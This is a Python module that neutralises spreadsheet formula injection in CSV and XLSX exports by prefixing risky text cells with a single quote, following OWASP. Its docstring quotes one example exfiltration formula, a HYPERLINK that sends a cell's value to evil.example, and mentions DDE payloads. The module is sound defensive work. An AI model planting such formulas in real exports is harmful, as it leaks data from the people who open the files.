"""Text cells made safe for spreadsheets (CSV and XLSX injection), one rule for every writer.

A text value that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading a formula) is run as a formula when a planner opens the CSV
in Excel or LibreOffice: ``=HYPERLINK("http://evil.example/?"&A1, "ver")`` sends the row away, DDE
payloads start programs. The values come from files loaded as they are (a permit's id, a
complaint's text), so every CSV and XLSX the observatory writes passes its text cells through
``neutralise``: OWASP's rule ("CSV Injection"), a single quote in front, which spreadsheets show as
text and do not display. Numbers, dates and missing values are left as they are: ``-3.5`` as a
number is a number; only text is ever read as a formula.
"""

from __future__ import annotations

from typing import Any, TypeVar

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a text cell as a formula (OWASP)."""

Frame = TypeVar("Frame", bound=pd.DataFrame)


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text that a spreadsheet would run; else unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def neutralise_frame(frame: Frame) -> Frame:
    """A copy of ``frame`` whose text cells are neutralised (text columns only: numbers stay numbers)."""
    types = pd.api.types
    text = [
        name
        for name, kind in frame.dtypes.items()
        if types.is_object_dtype(kind) or types.is_string_dtype(kind) or isinstance(kind, pd.CategoricalDtype)
    ]
    if not text:
        return frame
    return frame.assign(**{str(column): frame[column].map(neutralise) for column in text})
